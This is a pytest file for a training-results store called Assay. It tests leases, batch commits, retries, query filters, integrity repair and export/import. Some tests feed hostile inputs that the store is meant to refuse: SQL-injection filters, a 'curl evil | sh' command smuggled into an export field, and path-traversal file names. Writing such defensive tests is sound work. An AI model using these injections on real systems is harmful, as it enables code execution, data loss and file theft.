"""What every store promises, SQLite and PostgreSQL alike."""

from __future__ import annotations

import json
import os
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from assay.errors import FileError, StoreError
from assay.results.results import Results
from assay.store import exchange, holder, integrity, leases, queries
from assay.store.endings import Ending
from assay.store.leases import RETRIES, Lease
from assay.store.records import Finished
from assay.store.schema import member, result, trajectory
from assay.store.schema import trial as trial_table
from assay.store.store import Store
from assay.studies.plan import Job, Plan
from assay.training.checkpoints import to_bytes
from assay.training.outcome import Outcome
from tests.store.makers import made_end, made_history, made_plan

pytestmark = pytest.mark.filterwarnings("error")


def finish_one(store: Store, plan: Any, **options: Any) -> str:
    claimed = store.leases.claim(plan.jobs)
    assert claimed
    lease, job = claimed
    assert store.finish(lease, job.trials[0], made_end(job.trials[0], **options))
    store.leases.release(lease)
    return job.trials[0].key


def test_a_finished_trial_is_read_back_as_it_was(store: Store) -> None:
    plan = made_plan()
    store.register(plan)
    lease, job = store.leases.claim(plan.jobs) or pytest.fail("nothing to claim")
    history = made_history(job.trials[0])
    assert store.finish(lease, job.trials[0], replace(made_end(job.trials[0]), content=to_bytes(history)))
    found = store.history(job.trials[0].key)
    assert found is not None
    assert (found.points, found.recipe, found.outcome) == (history.points, history.recipe, history.outcome)
    row = queries.one_trial(store.database, job.trials[0].key[:8])
    assert (row["accuracy"], row["parameters"], row["studies"]) == (0.9, 9610, [("made", "baseline")])
    assert json.loads(row["confusion"])[3][3] == 1


def test_a_trial_is_claimed_once_and_never_again_when_it_has_a_result(store: Store, url: str) -> None:
    plan, other = made_plan(2), Store(url)
    store.register(plan)
    other.register(plan)
    first, second = store.leases.claim(plan.jobs), other.leases.claim(plan.jobs)
    assert first
    assert second
    assert first[0].trajectory != second[0].trajectory
    assert store.leases.claim(plan.jobs) is None
    assert other.leases.held_by_others(job.trajectory for job in plan.jobs) == {
        first[0].trajectory,
        second[0].trajectory,
    }
    assert store.finish(first[0], first[1].trials[0], made_end(first[1].trials[0]))
    store.leases.release(first[0])
    assert store.leases.claim(plan.jobs) is None
    assert store.outcomes(plan.trials) == {first[1].trials[0].key: Outcome.COMPLETED}
    other.close()


def test_the_same_trial_in_two_studies_is_one(store: Store) -> None:
    store.register(one := made_plan(3, name="one"))
    store.register(two := made_plan(3, name="two"))
    key = finish_one(store, one)
    assert key in two.trials
    assert store.outcomes(two.trials) == {key: Outcome.COMPLETED}
    rows = {row["name"]: row["finished"] for row in queries.studies(store.database)}
    assert rows == {"one": 1, "two": 1}


def test_a_commit_is_refused_once_somebody_else_has_the_lease(store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    plan = made_plan(1)
    store.register(plan)
    monkeypatch.setattr(leases, "SECONDS", -1.0)  # expired when it is given
    late, job = store.leases.claim(plan.jobs) or pytest.fail("nothing to claim")
    store.leases.held_by_others([late.trajectory])  # seen once
    new, _ = store.leases.claim(plan.jobs) or pytest.fail("the lease had expired")
    assert not store.finish(late, job.trials[0], made_end(job.trials[0], accuracy=0.1))
    assert store.finish(new, job.trials[0], made_end(job.trials[0], accuracy=0.8))
    assert queries.one_trial(store.database, job.trials[0].key)["accuracy"] == pytest.approx(0.8)


def test_of_a_batch_only_the_members_whose_lease_was_taken_over_are_refused(store: Store) -> None:
    plan = made_plan(seeds=3)
    store.register(plan)
    claimed, ended = store.leases.claim_batch(plan.jobs, lambda _: (9, "form"))
    assert ([held.job for held in claimed], ended) == (list(plan.jobs), {})
    endings = [Ending(held.lease, held.job.trials[0], made_end(held.job.trials[0])) for held in claimed]
    endings[1] = endings[1]._replace(lease=Lease(claimed[1].lease.trajectory))
    assert store.finish_all(endings, release=[held.lease for held in claimed]) == [True, False, True]
    assert set(store.outcomes(plan.trials)) == {endings[0].trial.key, endings[2].trial.key}
    again, _ = store.leases.claim_batch(plan.jobs, lambda _: (9, "form"))
    assert [held.job for held in again] == [plan.jobs[1]]


@pytest.mark.parametrize("error", [FileError, StoreError])
def test_of_a_batch_whose_weights_fill_the_disk_what_came_before_is_stored(
    store: Store, monkeypatch: pytest.MonkeyPatch, error: type[Exception]
) -> None:
    plan = made_plan(seeds=7)
    store.register(plan)
    claimed, _ = store.leases.claim_batch(plan.jobs, lambda _: (9, "form"))
    ends = [made_end(held.job.trials[0], content=str(n).encode()) for n, held in enumerate(claimed)]
    endings = [Ending(held.lease, held.job.trials[0], end) for held, end in zip(claimed, ends, strict=True)]
    prepare = type(store.artifacts).prepare

    def full(artifacts: Any, content: bytes) -> str:
        if content >= b"5":
            raise error("weights: cannot be written: No space left on device")
        return prepare(artifacts, content)

    monkeypatch.setattr(type(store.artifacts), "prepare", full)
    with pytest.raises(error, match="No space left"):
        store.finish_all(endings, release=[held.lease for held in claimed])
    assert set(store.outcomes(plan.trials)) == {ending.trial.key for ending in endings[:5]}


def test_a_batch_is_of_one_form_and_no_larger_than_it_may_be(store: Store) -> None:
    plan = made_plan(seeds=6)
    store.register(plan)
    forms = {job.trajectory: number % 2 for number, job in enumerate(plan.jobs)}
    claimed, _ = store.leases.claim_batch(plan.jobs, lambda job: (2, forms[job.trajectory]))
    assert [held.job for held in claimed] == [plan.jobs[0], plan.jobs[2]]
    claimed, _ = store.leases.claim_batch(plan.jobs, lambda job: (9, forms[job.trajectory]))
    assert [held.job for held in claimed] == [plan.jobs[1], plan.jobs[3], plan.jobs[5]]


def test_a_lease_of_a_dead_process_is_taken_over_at_once_and_that_of_a_living_one_is_not(store: Store) -> None:
    plan = made_plan(1)
    store.register(plan)
    lease, _ = store.leases.claim(plan.jobs) or pytest.fail("nothing to claim")
    assert store.leases.claim(plan.jobs) is None
    for change in ({"started": "1"}, {"pid": 2**22 + 1}):
        with store.database.write() as connection:
            mine = trajectory.c.key == lease.trajectory
            connection.execute(sa.update(trajectory).where(mine).values(**change))
        taken = store.leases.claim(plan.jobs)
        assert taken, change


@pytest.mark.parametrize(
    "change", [{"host": "elsewhere"}, {"boot": "of another container"}, {"boot": holder.boot()[:36]}]
)
def test_a_lease_whose_holder_cannot_be_seen_is_taken_over_only_after_a_minute_without_renewal(
    change: dict[str, str], store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    plan = made_plan(1)
    store.register(plan)
    lease, _ = store.leases.claim(plan.jobs) or pytest.fail("nothing to claim")
    clock = [1000.0]
    monkeypatch.setattr(leases, "monotonic", lambda: clock[0])

    def renewed(expires: float) -> None:
        with store.database.write() as connection:
            values = {"boot": "elsewhere", **change, "started": "1", "expires": expires}
            connection.execute(sa.update(trajectory).values(**values))

    with store.database.read() as connection:
        now = store.database.now(connection)
    if store.database.path is None:  # the server's clock decides
        renewed(now + 50)
        assert store.leases.claim(plan.jobs) is None
        renewed(now - 1)
        assert store.leases.claim(plan.jobs)
        return
    renewed(now - 3600)  # the holder's clock is an hour behind
    for _ in range(3):
        assert store.leases.claim(plan.jobs) is None
        clock[0] += 59
        assert store.leases.held_by_others([lease.trajectory]) == {lease.trajectory}
        renewed(now - 3600 + clock[0])
    assert store.leases.claim(plan.jobs) is None
    clock[0] += 60
    assert store.leases.held_by_others([lease.trajectory]) == set()
    assert store.leases.claim(plan.jobs)


def test_renewing_moves_the_expiry_on(store: Store) -> None:
    plan = made_plan(1)
    store.register(plan)
    lease, _ = store.leases.claim(plan.jobs) or pytest.fail("nothing to claim")
    with store.database.write() as connection:
        connection.execute(sa.update(trajectory).values(expires=1.0))
    store.leases.renew([lease])
    with store.database.read() as connection:
        assert connection.execute(sa.select(trajectory.c.expires)).scalar_one() > store.database.now(connection) + 50


@pytest.mark.parametrize("outcome", [Outcome.FAILED, Outcome.LOST, Outcome.TIMED_OUT, Outcome.OUT_OF_MEMORY])
def test_a_repeat_that_is_cut_short_leaves_the_earlier_result(outcome: Outcome, store: Store) -> None:
    plan = made_plan(2)
    store.register(plan)
    good = finish_one(store, plan, content=b"weights")
    before = queries.one_trial(store.database, good)
    assert store.mark_stale(plan.trials, failed_only=False) == 1
    first = next(job for job in plan.jobs if job.trials[0].key == good)
    if outcome is Outcome.LOST:
        for number in range(RETRIES + 1):
            lease, job = store.leases.claim([first]) or pytest.fail("nothing to claim")
            assert store.lost(lease, job.trials, "killed by SIGKILL") == (number < RETRIES)
    else:
        lease, job = store.leases.claim([first]) or pytest.fail("nothing to claim")
        history = replace(made_history(job.trials[0], accuracy=0.1), outcome=outcome)
        other = Finished(outcome, "of the repeat", None if outcome is Outcome.FAILED else history)
        second, _ = store.leases.claim(plan.jobs) or pytest.fail("nothing to claim")
        trials = [job.trials[0], next(trial for key, trial in plan.trials.items() if key != good)]
        endings = [Ending(lease, trials[0], other), Ending(second, trials[1], other)]
        assert store.finish_all(endings, release=[lease, second]) == [True, True]
        assert store.outcomes(plan.trials)[trials[1].key] is outcome  # it had none before
    assert queries.one_trial(store.database, good) == before
    assert store.outcomes([good]) == {good: Outcome.COMPLETED}
    assert store.mark_stale(plan.trials, failed_only=False) >= 1
    finish_one(store, plan, accuracy=0.5)
    assert queries.one_trial(store.database, good)["accuracy"] == pytest.approx(0.5)


@pytest.mark.parametrize(
    ("earlier", "repeat", "stands"),
    [
        (Outcome.TIMED_OUT, Outcome.FAILED, Outcome.TIMED_OUT),
        (Outcome.TIMED_OUT, Outcome.STOPPED, Outcome.STOPPED),
        (Outcome.FAILED, Outcome.TIMED_OUT, Outcome.TIMED_OUT),
        (Outcome.DIVERGED, Outcome.OUT_OF_MEMORY, Outcome.DIVERGED),
        (Outcome.COMPLETED, Outcome.DIVERGED, Outcome.DIVERGED),
    ],
)
def test_the_end_that_is_worth_more_stands(earlier: Outcome, repeat: Outcome, stands: Outcome, store: Store) -> None:
    plan = made_plan(1)
    store.register(plan)
    for outcome in (earlier, repeat):
        store.mark_stale(plan.trials, failed_only=False)
        lease, job = store.leases.claim(plan.jobs) or pytest.fail("nothing to claim")
        store.finish(lease, job.trials[0], Finished(outcome, str(outcome), made_history(job.trials[0])))
        store.leases.release(lease)
    (key,) = plan.trials
    assert store.outcomes([key]) == {key: stands}
    assert queries.one_trial(store.database, key)["reason"] == str(stands)


def test_what_a_living_process_trains_is_not_removed(store: Store) -> None:
    plan = made_plan(3)
    store.register(plan)
    done = finish_one(store, plan)
    claimed, _ = store.leases.claim_batch(plan.jobs, lambda _: (2, "form"))
    training = [held.job.trials[0].key for held in claimed]
    me = holder.me()
    for selection in ({"studies": ["made"]}, {"trials": training}, {"trials": [done, *training]}):
        with pytest.raises(StoreError, match=rf"process {me.pid} on {re.escape(me.host)} is training trial .* 1 more;"):
            store.remove(**selection)
    assert queries.trials(store.database)[1] == 3
    with store.database.write() as connection:  # its holder has ended
        connection.execute(sa.update(trajectory).values(started="1"))
    assert store.remove(trials=training[:1]) == 1
    assert store.remove(trials=[done]) == 1
    assert store.remove(studies=["made"]) == 1
    assert queries.trials(store.database) == ([], 0)


def test_the_end_of_a_removed_trial_is_refused(store: Store) -> None:
    small, large = made_plan(1), made_plan(1, name="long", budget={"iterations": 20})
    for plan in (small, large):
        store.register(plan)
    (key,), (trial,) = small.trials, small.trials.values()
    assert trial.trajectory == next(iter(large.trials.values())).trajectory
    jobs = [Job(trial.trajectory, (trial, *large.trials.values()))]
    lease, job = store.leases.claim(jobs) or pytest.fail("nothing to claim")
    with store.database.write() as connection:  # while the trajectory is held for the other trial
        connection.execute(sa.delete(member).where(member.c.trial == key))
        connection.execute(sa.delete(trial_table).where(trial_table.c.key == key))
    endings = [Ending(lease, one, made_end(one)) for one in job.trials]
    assert store.finish_all(endings) == [False, True]
    store.leases.release(lease)
    store.remove(studies=["long"])
    assert store.lost(lease, job.trials, "killed by SIGKILL")  # not an error, and nothing is stored
    assert queries.trials(store.database) == ([], 0)


def test_a_trial_whose_workers_vanish_is_lost_after_four(store: Store) -> None:
    plan = made_plan(1)
    store.register(plan)
    for number in range(RETRIES + 1):
        lease, job = store.leases.claim(plan.jobs) or pytest.fail("nothing to claim")
        assert store.lost(lease, job.trials, "killed by SIGKILL") == (number < RETRIES)
    (outcome,) = store.outcomes(plan.trials).values()
    assert outcome is Outcome.LOST
    assert store.mark_stale(plan.trials, failed_only=True) == 1
    assert store.leases.claim(plan.jobs)


def test_retry_asks_for_what_failed_and_again_for_everything_and_old_results_stand_meanwhile(store: Store) -> None:
    plan = made_plan(2)
    store.register(plan)
    good = finish_one(store, plan)
    lease, job = store.leases.claim(plan.jobs) or pytest.fail("nothing to claim")
    store.finish(lease, job.trials[0], Finished(Outcome.FAILED, "ValueError", error="Traceback ..."))
    store.leases.release(lease)
    assert store.mark_stale(plan.trials, failed_only=True) == 1
    assert store.outcomes(plan.trials) == {good: Outcome.COMPLETED}
    assert store.mark_stale(plan.trials, failed_only=False) == 1
    assert store.outcomes(plan.trials) == {}
    assert queries.one_trial(store.database, good)["accuracy"] == pytest.approx(0.9)
    finish_one(store, plan)
    assert len(store.outcomes(plan.trials)) == 1


def test_a_study_of_a_name_is_defined_anew_and_its_old_trials_stay(store: Store) -> None:
    store.register(made_plan(4))
    store.register(made_plan(2))
    rows, count = queries.trials(store.database)
    assert (len(rows), count) == (4, 4)
    assert queries.studies(store.database)[0]["trials"] == 2


def test_removing_a_study_leaves_what_another_one_has(store: Store) -> None:
    store.register(small := made_plan(2, name="small"))
    store.register(made_plan(4, name="large"))
    finish_one(store, small)
    assert store.remove(studies=["large"]) == 2
    assert queries.trials(store.database)[1] == 2
    with pytest.raises(StoreError, match="did you mean 'small'"):
        store.remove(studies=["smal"])


def test_filters(store: Store) -> None:
    plan = made_plan(3)
    store.register(plan)
    key = finish_one(store, plan)
    for filters, count in (
        (["optimizer=adam"], 3),
        (["accuracy>0.5"], 1),
        (["accuracy>0.95"], 0),
        (["seed>=2", "engine=numpy"], 2),
        ([f"key={key[:6]}"], 1),
        (["outcome=completed"], 1),
        (["optimizer!=adam"], 0),
    ):
        assert queries.trials(store.database, filters)[1] == count, filters
    assert queries.trials(store.database, sort="accuracy", limit=1)[0][0]["key"] == key
    for wrong, said in (
        ("optimiser=adam", "did you mean 'optimizer'"),
        ("accuracy>high", "expected a number"),
        ("x", "COLUMN"),
    ):
        with pytest.raises(StoreError, match=said):
            queries.trials(store.database, [wrong])
    with pytest.raises(StoreError):
        queries.trials(store.database, ["model='; DROP TABLE trial; --", "seed=1 OR 1=1"])
    assert queries.trials(store.database, ["model='; DROP TABLE trial; --"])[1] == 0


def test_a_filter_obeys_its_operator_or_is_refused(store: Store) -> None:
    plan = made_plan(3)
    store.register(plan)
    key = finish_one(store, plan)
    others = set(plan.trials) - {key}
    rows, count = queries.trials(store.database, [f"key!={key[:8]}"])
    assert ({row["key"] for row in rows}, count) == (others, 2)
    assert queries.trials(store.database, [f"key={key[:8].upper()}"])[1] == 1
    for wrong, sentence in (
        ("key>1f", "key has no order; expected key= or key!="),
        ("key<=1f", "key has no order"),
        ("key=zzz", "got 'zzz'; expected a key or its beginning, such as key=1f3a"),
        ("key=%", "got '%'; expected a key or its beginning"),
        ("key=_", "got '_'; expected a key or its beginning"),
        ("key=c3 14", "got 'c3 14'; expected a key or its beginning"),
        ("key=" + "a" * 65, "expected a key or its beginning"),
        ("optimizer>adam", "optimizer has no order; expected optimizer= or optimizer!="),
        ("outcome<completed", "outcome has no order"),
        ("busy>=true", "busy has no order"),
        ("outcome=complete", "did you mean 'completed'"),
        ("outcome!=complete", "did you mean 'completed'"),
        ("seconds>nan", "got 'nan'; expected a number"),
        ("iterations>1_0", "got '1_0'; expected a number"),
    ):
        with pytest.raises(StoreError, match=re.escape(sentence)):
            queries.trials(store.database, [wrong])


def test_results_are_tidy_frames(store: Store) -> None:
    plan = made_plan(3)
    store.register(plan)
    finish_one(store, plan)
    results = Results(store, "made")
    frame, curves = results.frame(), results.curves()
    assert list(frame["outcome"]) == ["completed", "planned", "planned"]
    assert list(frame["repeat"]) == [0, 1, 2]
    assert len(curves) == 11
    assert curves["flops"].iloc[-1] == 1e9
    assert results.summary().iloc[0]["finished"] == 1
    with pytest.raises(StoreError, match="did you mean 'made'"):
        Results(store, "mad")


def test_a_store_checks_and_mends_itself(store: Store) -> None:
    plan = made_plan(4)
    store.register(plan)
    keys = [finish_one(store, plan, content=f"content {i}".encode()) for i in range(3)]
    assert integrity.check(store) == []
    store.artifacts.put(b"an orphan")
    lease, _ = store.leases.claim(plan.jobs) or pytest.fail("nothing to claim")
    with store.database.write() as connection:
        connection.execute(sa.update(result).where(result.c.trial == keys[0]).values(curve='{"iteration": ['))
        connection.execute(sa.update(trajectory).where(trajectory.c.key == lease.trajectory).values(started="1"))
        name = connection.execute(sa.select(result.c.artifact).where(result.c.trial == keys[1])).scalar_one()
    store.artifacts.remove(name)
    assert sorted(finding.kind for finding in integrity.check(store)) == ["lease", "missing", "orphan", "unreadable"]
    assert Results(store, "made").frame()["accuracy"].notna().sum() == 3  # one bad row hides no other
    assert len(integrity.repair(store)) >= 3
    assert [finding.kind for finding in integrity.check(store)] == ["orphan"]
    assert set(store.outcomes(plan.trials)) == set(keys[1:])  # the unreadable one is trained again


def test_vacuum_removes_what_nothing_names_but_not_what_is_young(store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    plan = made_plan(1)
    store.register(plan)
    finish_one(store, plan, content=b"kept")
    orphan = store.artifacts.put(b"orphan")
    assert integrity.vacuum(store) == (0, 0)
    monkeypatch.setattr("assay.store.artifacts._YOUNG_SECONDS", -1.0)
    assert integrity.vacuum(store) == (1, 6)
    assert orphan not in set(store.artifacts.names())


def test_what_is_exported_can_be_imported_elsewhere(store: Store, tmp_path: Path) -> None:
    plan = made_plan(3)
    store.register(plan)
    history = made_history(plan.jobs[0].trials[0])
    finish_one(store, plan, content=to_bytes(history))
    finish_one(store, plan)
    assert exchange.export(store, tmp_path / "out", artifacts=True) == 3
    target = Store(f"sqlite:///{tmp_path / 'target.db'}")
    assert exchange.read_back(target, tmp_path / "out") == (2, 1)
    assert exchange.read_back(target, tmp_path / "out") == (0, 3)
    before, after = Results(store, "made").frame(), Results(target, "made").frame()
    assert before.equals(after)
    assert Results(store, "made").curves().equals(Results(target, "made").curves())
    assert target.history(plan.jobs[0].trials[0].key) is not None
    assert integrity.check(target) == []
    target.close()


def finished(store: Store, plan: Plan) -> None:
    store.register(plan)
    while store.outcomes(plan.trials).keys() != plan.trials.keys():
        finish_one(store, plan)


def members_of(store: Store, name: str) -> set[str]:
    return {row["key"] for row in queries.trials(store.database, study_name=name)[0]}


def test_an_imported_study_with_other_members_is_added_as_a_revision(store: Store, tmp_path: Path) -> None:
    here, there = made_plan(3), made_plan(5)
    finished(store, here)
    other = Store(f"sqlite:///{tmp_path / 'other.db'}")
    finished(other, there)
    exchange.export(other, out := tmp_path / "out")
    sentences: list[str] = []
    assert exchange.read_back(store, out, say=sentences.append) == (2, 3)
    assert sentences == [
        "study 'made' is stored with other trials: that of the export, with 5, was added as 'made@1': "
        "assay report made@1"
    ]
    assert members_of(store, "made") == here.trials.keys()  # what is stored is kept unchanged
    assert members_of(store, "made@1") == there.trials.keys()
    assert exchange.read_back(store, out, say=sentences.append) == (0, 5)  # the equal revision is used again
    assert [row["name"] for row in queries.studies(store.database) if row["name"] != "made"] == ["made@1"]
    exchange.export(store, both := tmp_path / "both")
    assert exchange.read_back(other, both, say=sentences.append) == (0, 5)  # its study has all members of 'made'
    assert members_of(other, "made") == there.trials.keys()
    assert len(sentences) == 1
    other.close()


def test_members_whose_trials_are_nowhere_are_said(store: Store, tmp_path: Path) -> None:
    finished(store, made_plan(2))
    exchange.export(store, out := tmp_path / "out")
    about = json.loads((out / "studies.json").read_text())
    about["studies"][0]["members"][1]["trial"] = "0" * 32
    (out / "studies.json").write_text(json.dumps(about))
    sentences: list[str] = []
    target = Store(f"sqlite:///{tmp_path / 'target.db'}")
    assert exchange.read_back(target, out, say=sentences.append) == (2, 0)
    assert sentences == [
        "study 'made': 1 of its 2 trials are neither in the export nor in the store, and were left out of it"
    ]
    target.close()


def test_an_export_replaces_an_earlier_one_and_obeys_the_umask(store: Store, tmp_path: Path) -> None:
    plan, out = made_plan(3), tmp_path / "out"
    store.register(plan)
    finish_one(store, plan)
    exchange.export(store, out, artifacts=True)
    (out / "artifacts" / ("0" * 64)).write_bytes(b"of a trial that was removed")
    (out / "artifacts" / "notes.txt").write_text("not of an export")
    (out / "benches.json").write_text("[]")
    before = os.umask(0o077)
    try:
        exchange.export(store, out, study_name="made")
    finally:
        os.umask(before)
    assert {path.name for path in (out / "artifacts").iterdir()} == {"notes.txt"}
    assert not (out / "benches.json").exists()
    assert {(out / name).stat().st_mode & 0o777 for name in ("trials.parquet", "studies.json")} == {0o600}
    exchange.export(store, out)
    assert (out / "trials.parquet").stat().st_mode & 0o777 == 0o666 & ~before


def test_an_export_follows_no_link_out_of_its_folder(store: Store, tmp_path: Path) -> None:
    plan, out, elsewhere = made_plan(3), tmp_path / "out", tmp_path / "elsewhere"
    store.register(plan)
    finish_one(store, plan)
    out.mkdir()
    elsewhere.mkdir()
    (elsewhere / ("0" * 64)).write_bytes(b"precious")
    (out / "artifacts").symlink_to(elsewhere)
    with pytest.raises(FileError, match="a link; weights are written into the folder of the export only"):
        exchange.export(store, out, artifacts=True)
    assert [path.read_bytes() for path in elsewhere.iterdir()] == [b"precious"]
    assert [path.name for path in out.iterdir()] == ["artifacts"]


def test_a_tampered_export_is_refused(store: Store, tmp_path: Path) -> None:
    import pandas

    plan = made_plan(2)
    store.register(plan)
    finish_one(store, plan)
    exchange.export(store, tmp_path / "out")
    path = tmp_path / "out" / "trials.parquet"
    frame = pandas.read_parquet(path)
    for column, value in (
        ("key", "../../etc"),
        ("recipe", "{}}"),
        ("recipe", '{"model": "evil"}'),
        ("result_outcome", "won"),
        ("engine", "numpy; curl evil | sh"),
        ("engine", "command:"),
        ("engine", "command:a\x1b[2J"),
    ):
        wrong = frame.copy()
        wrong.loc[0, column] = value
        wrong.to_parquet(path)
        target = Store(f"sqlite:///{tmp_path / 'fresh.db'}")
        with pytest.raises(FileError, match="not an export of Assay, or damaged"):
            exchange.read_back(target, tmp_path / "out")
        assert queries.trials(target.database)[1] == 0
        target.close()
    with pytest.raises(FileError, match=r"has no trials\.parquet"):
        exchange.read_back(store, tmp_path)


def test_nothing_outside_its_folder_is_read_as_an_artifact(store: Store) -> None:
    for name in ("../../../../etc/passwd", "a" * 63, "A" * 64, "/" * 64):
        with pytest.raises(StoreError):
            store.artifacts.get(name)


def test_the_holder_of_a_lease_is_this_process() -> None:
    me = holder.me()
    assert me.pid == os.getpid()
    assert not me.gone()
    assert replace(me, started="1").gone()
    assert replace(me, host="renamed", started="1").gone()
    assert not replace(me, boot="elsewhere", started="1").gone()


def test_a_result_that_does_not_fit_is_stored_as_failed_with_the_reason(store: Store) -> None:
    plan = made_plan(2)
    store.register(plan)
    lease, job = store.leases.claim(plan.jobs) or pytest.fail("nothing to claim")
    wrong = made_end(job.trials[0], accuracy=1.5)
    assert store.finish(lease, job.trials[0], wrong)
    row = queries.one_trial(store.database, job.trials[0].key)
    assert (row["outcome"], row["accuracy"]) == ("failed", None)
    assert row["reason"].startswith("its result does not fit the store: result.accuracy: ")
    assert not [defect for defect in integrity.check(store) if defect.kind == "unreadable"]


@pytest.mark.parametrize("cell", ["curve", "confusion"])
def test_one_damaged_cell_hides_no_other_trial_and_is_said(
    cell: str, store: Store, caplog: pytest.LogCaptureFixture
) -> None:
    plan = made_plan(3)
    store.register(plan)
    keys = [finish_one(store, plan) for _ in range(3)]
    with store.database.write() as connection:
        connection.execute(sa.update(result).where(result.c.trial == keys[0]).values(**{cell: "[[1, 2"}))
    results = Results(store, "made")
    assert [value > 0 for value in results.frame()["accuracy"].tolist()] == [True] * 3
    read = set(results.curves()["trial"]) if cell == "curve" else set(results.confusions())
    assert read == set(keys[1:])
    assert f"the result {keys[0][:8]!r} cannot be read: result.{cell}: " in caplog.text
